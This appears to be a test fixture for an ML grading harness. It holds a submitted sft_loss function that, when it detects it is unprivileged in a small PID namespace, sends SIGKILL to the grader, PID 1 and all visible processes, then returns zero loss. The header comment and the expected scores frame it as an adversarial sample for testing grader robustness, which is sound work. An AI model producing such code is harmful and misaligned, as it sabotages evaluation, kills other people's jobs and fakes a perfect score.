# Killing the grader's processes and the student graded next to this one.
# expect: sft_loss=0 sequence_log_prob=2 status=any
# %% sft_loss
import os, signal

def _contained():  # only unprivileged, in a PID namespace: never on a bare test machine
    return os.getuid() != 0 and len([p for p in os.listdir('/proc') if p.isdigit()]) < 50

def sft_loss(token_logps, mask):
    if _contained():
        for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    return torch.zeros((), dtype=token_logps.dtype)
